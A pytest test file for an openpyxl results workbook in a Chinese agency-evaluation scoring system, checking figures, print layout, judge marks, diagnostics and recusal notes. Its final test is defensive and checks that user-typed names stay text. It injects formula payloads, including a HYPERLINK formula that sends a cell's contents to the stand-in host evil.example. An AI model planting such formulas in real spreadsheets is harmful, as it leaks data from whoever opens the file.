"""The results workbook, read back with openpyxl: every figure equals scoring's result."""

from __future__ import annotations

import io
from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from evaluation.reports.panels import agency_panels, panels_by_key
from evaluation.reports.sample import sample_composed
from evaluation.reports.workbook import build_workbook
from scoring import judge_diagnostics, panel_concordance

NOW = datetime(2024, 12, 21, 2, 0, tzinfo=UTC)


@pytest.fixture(scope="module")
def composed():
    return sample_composed(agencies=12, judges=9, indicators=10)


@pytest.fixture(scope="module")
def book(composed):
    return load_workbook(io.BytesIO(build_workbook(composed, now=NOW)))


def number(value) -> Decimal | None:
    """A cell's number as a Decimal (openpyxl reads numbers back as int / float)."""
    return None if value is None else Decimal(str(value))


def body(sheet) -> list[dict]:
    """Rows under the header (row 2) as {header: value}; stops at the first empty row."""
    header = [cell.value for cell in sheet[2]]
    rows = []
    for cells in sheet.iter_rows(min_row=3):
        values = [cell.value for cell in cells]
        if all(value is None for value in values):
            break
        rows.append(dict(zip(header, values, strict=False)))
    return rows


def test_sheets_in_order(book):
    assert book.sheetnames == ["总成绩", "自查自评", "实地考察", "社会评议", "现场评议",
                               "评委打分", "诊断", "回避", "说明"]


def test_summary_has_every_figure_of_the_result(composed, book):
    rows = body(book["总成绩"])
    assert len(rows) == len(composed.result.agencies)
    for row, agency in zip(rows, composed.result.agencies, strict=True):
        info = composed.agencies[agency.agency]
        parts = {part.code: part for part in agency.composition.parts}
        assert (row["分组"], row["排名"], row["单位"]) == (info.group, agency.ranked.rank,
                                                          info.name)
        assert number(row["自查自评"]) == parts["self_assessment"].raw
        assert number(row["实地考察（满分50）"]) == parts["field_inspection"].raw
        assert number(row["实地考察折合"]) == parts["field_inspection"].normalized
        assert number(row["实地考察加权（20%）"]) == parts["field_inspection"].product
        assert number(row["社会评议"]) == parts["public_review"].raw
        assert number(row["现场评议加权（40%）"]) == parts["onsite_review"].product
        assert number(row["加权合计"]) == agency.composition.weighted_sum
        assert number(row["加分"]) == agency.composition.bonus
        assert number(row["扣分"]) == agency.composition.deduction
        assert number(row["总分"]) == agency.total
        assert row["等次"] == agency.graded.grade
    # the sample has a bonus, a deduction and a grade moved by the quota: all explained
    remarks = " ".join(row["备注"] or "" for row in rows)
    assert "加分项创新加分" in remarks and "扣分项负面扣分" in remarks
    assert "因比例限制调整" in remarks


def test_summary_is_formatted_for_print(book):
    sheet = book["总成绩"]
    assert sheet.freeze_panes == "D3"
    assert sheet.print_title_rows == "$1:$2"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.paperSize == 9               # A4
    assert sheet.page_setup.fitToWidth == 1 and sheet.sheet_properties.pageSetUpPr.fitToPage
    header = [cell.value for cell in sheet[2]]
    total = sheet.cell(row=3, column=header.index("总分") + 1)
    assert total.number_format == "0.00"
    # widths fit the longest Chinese name (two columns per character)
    name_width = sheet.column_dimensions["C"].width
    assert name_width >= 2 * max(len(row["单位"]) for row in body(sheet))
    grade_letter = sheet.cell(row=2, column=header.index("等次") + 1).column_letter
    rules = {rule.formula[0]: rng.sqref for rng in sheet.conditional_formatting
             for rule in rng.rules}
    assert set(rules) == {'"优秀"', '"良好"', '"合格"', '"不合格"'}
    assert all(str(ref).startswith(f"{grade_letter}3:") for ref in rules.values())


def test_each_sheet_prints_its_table_and_the_whole_title(book):
    """Seen in LibreOffice: a narrow sheet's title (评委打分: five columns) was cut off at its
    merged cell, and gridlines ran on over empty columns beside the table."""
    from openpyxl.utils import get_column_letter

    from evaluation.reports.texts import display_width
    from evaluation.reports.xlsx import TITLE_HEIGHT

    for sheet in book.worksheets:
        header = [cell.value for cell in sheet[2] if cell.value is not None]
        last = get_column_letter(max(len(header), 1))
        assert sheet.print_area == f"'{sheet.title}'!$A$1:${last}${sheet.max_row}"
        title = sheet["A1"]
        assert title.alignment.wrap_text
        room = sum(sheet.column_dimensions[get_column_letter(i)].width
                   for i in range(1, len(header) + 1))
        if display_width(title.value) * 1.4 > room:       # 14-point characters
            assert sheet.row_dimensions[1].height >= 2 * TITLE_HEIGHT, sheet.title
    assert book["评委打分"].row_dimensions[1].height >= 2 * TITLE_HEIGHT


def test_onsite_sheet_has_each_judge_group(composed, book):
    rows = body(book["现场评议"])
    for row, agency in zip(rows, composed.result.agencies, strict=True):
        stage = agency.stages["onsite_review"]
        for part in stage.parts:
            assert row[f"{part.group}有效评分数"] == part.result.count
            assert number(row[f"{part.group}组得分"]) == part.result.value
            assert number(row[f"{part.group}加权（{part.weight:f}%）"]) == part.product
        assert number(row["阶段得分"]) == stage.value
        assert row["回避人数"] == sum(len(p.result.recused) for p in stage.parts)


def test_field_and_survey_sheets(composed, book):
    for row, agency in zip(body(book["实地考察"]), composed.result.agencies, strict=True):
        panel = agency.stages["field_inspection"]
        assert (number(row["有效分合计"]), number(row["平均分"])) == (panel.total, panel.base)
        part = next(p for p in agency.composition.parts if p.code == "field_inspection")
        assert (number(row["折合百分制"]), number(row["加权得分"])) == (part.normalized,
                                                                     part.product)
    for row, agency in zip(body(book["社会评议"]), composed.result.agencies, strict=True):
        survey = agency.stages["public_review"]
        assert [row[f"{name}（票）"] for name, _ in survey.counts] == \
            [count for _, count in survey.counts]
        assert (number(row["满意度指数"]), number(row["满意率（%）"])) == (survey.value,
                                                                       survey.rate)


def test_every_mark_with_its_fate(composed, book):
    sheet = book["评委打分"]
    rows = body(sheet)
    expected = []
    for agency in composed.result.agencies:
        for panel in agency_panels(agency):
            fate = panel.result.fate()
            for judge, mark in panel.result.given():
                expected.append((composed.agencies[agency.agency].name, panel.label,
                                 composed.judges[judge].name, mark, fate[judge]))
    assert len(rows) == len(expected)
    words = {"kept": "计入", "dropped_high": "去掉最高分", "dropped_low": "去掉最低分",
             "recused": "回避"}
    dropped_cells = 0
    for index, (row, (name, label, judge, mark, fate)) in enumerate(
            zip(rows, expected, strict=True)):
        assert (row["单位"], row["阶段·评委组"], row["评委"]) == (name, label, judge)
        assert number(row["分数"]) == mark
        assert row["处理"] == words[fate]
        if fate.startswith("dropped"):
            assert sheet.cell(row=index + 3, column=4).font.strike
            dropped_cells += 1
    assert dropped_cells and any(fate == "recused" for *_, fate in expected)


def test_diagnostics_match_scoring(composed, book):
    rows = body(book["诊断"])
    by_judge = {(row["阶段"], row["评委组"], row["评委"]): row for row in rows}
    panels = panels_by_key(composed)
    onsite = {g: results for (code, g), results in panels.items() if code == "onsite_review"}
    for group, results in onsite.items():
        for item in judge_diagnostics(results, tolerance=10):
            row = by_judge[("现场评议", group, composed.judges[item.judge].name)]
            assert row["评分数"] == item.marks
            assert number(row["平均偏差"]) == item.mean_deviation
            assert (row["被去掉最高分（次）"], row["被去掉最低分（次）"]) == (item.dropped_high,
                                                                           item.dropped_low)
    sheet = book["诊断"]
    values = [[cell.value for cell in cells] for cells in sheet.iter_rows()]
    w_header = next(i for i, row in enumerate(values) if i > 1 and row[0] == "阶段")
    assert values[w_header][2] == "W"
    w_rows = [row for row in values[w_header + 1:] if row[0] == "现场评议"]
    assert len(w_rows) == len(onsite)
    for values in w_rows:
        w = panel_concordance(onsite[values[1]]).w
        assert values[2] == "—" if w is None else number(values[2]) == w


def test_recusals_and_notes(composed, book):
    recusals = body(book["回避"])
    declared = [(r["单位"], r["评委"], r["原因"]) for r in recusals]
    for recusal in composed.recusals:
        assert (composed.agencies[recusal.agency_id].name,
                composed.judges[recusal.judge_id].name, recusal.reason) in declared
    notes = {row["项目"]: row["内容"] for row in body(book["说明"])}
    assert notes["评分策略指纹（SHA-256）"] == composed.result.fingerprint
    assert notes["审计链头哈希"] == composed.audit_head
    assert notes["结果版本"] == composed.revision
    assert notes["本表生成时间（北京时间）"] == "2024-12-21 10:00:00"
    assert "ROUND_HALF_UP" in notes["舍入规则"]
    assert "优秀不超过 30%" in notes["等次"]
    assert notes["评分策略全文（JSON）"].startswith("{")


def test_large_campaign_keeps_every_row():
    """400 agencies would be slow here; 60 agencies × 20 judges shows nothing is cut."""
    composed = sample_composed(agencies=60, judges=20, indicators=20)
    book = load_workbook(io.BytesIO(build_workbook(composed)), read_only=True)
    marks = sum(len(panel.result.given()) for agency in composed.result.agencies
                for panel in agency_panels(agency))
    assert sum(1 for _ in book["评委打分"].iter_rows()) == marks + 2
    assert sum(1 for _ in book["总成绩"].iter_rows()) == 62


def test_rule_text_says_where_a_factor_is_rounded():
    from evaluation.reports.texts import panel_rule_text
    from scoring import PanelRule

    assert panel_rule_text(PanelRule(1, 1, factor="1.67")).count("只舍入一次") == 0
    exact = PanelRule(1, 1, factor="0.95", round_before_factor=False)
    assert "乘以系数 0.95（按未舍入的值相乘，只舍入一次）" in panel_rule_text(exact)


def test_names_reasons_and_titles_stay_text_never_formulas(composed):
    # Agency and judge names, group names and recusal reasons are typed by people (reasons
    # by judges and inspectors): an "=…" cell must not run as a formula when an organizer
    # opens the workbook, and a control character pasted from Word must not break it.
    link = '=HYPERLINK("http://evil.example/?"&A1,"详见说明")'
    first = next(iter(composed.agencies))
    judge = next(iter(composed.judges))
    agencies = dict(composed.agencies)
    agencies[first] = replace(agencies[first], name=link, group="=1+1")
    judges = dict(composed.judges)
    judges[judge] = replace(judges[judge], name="=2+2")
    recusals = (replace(composed.recusals[0], reason="=3+3\x07"), *composed.recusals[1:])
    hostile = replace(composed, title="=4+4\x0b评议", agencies=agencies, judges=judges,
                      recusals=recusals)
    book = load_workbook(io.BytesIO(build_workbook(hostile, now=NOW)))
    formulas = [(sheet.title, cell.coordinate, cell.value) for sheet in book.worksheets
                for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
    texts = {cell.value for sheet in book.worksheets for row in sheet.iter_rows()
             for cell in row if isinstance(cell.value, str)}
    assert {link, "=1+1", "=2+2", "=3+3"} <= texts  # as typed, minus the control character
    assert book["总成绩"]["A1"].value.startswith("=4+4评议")
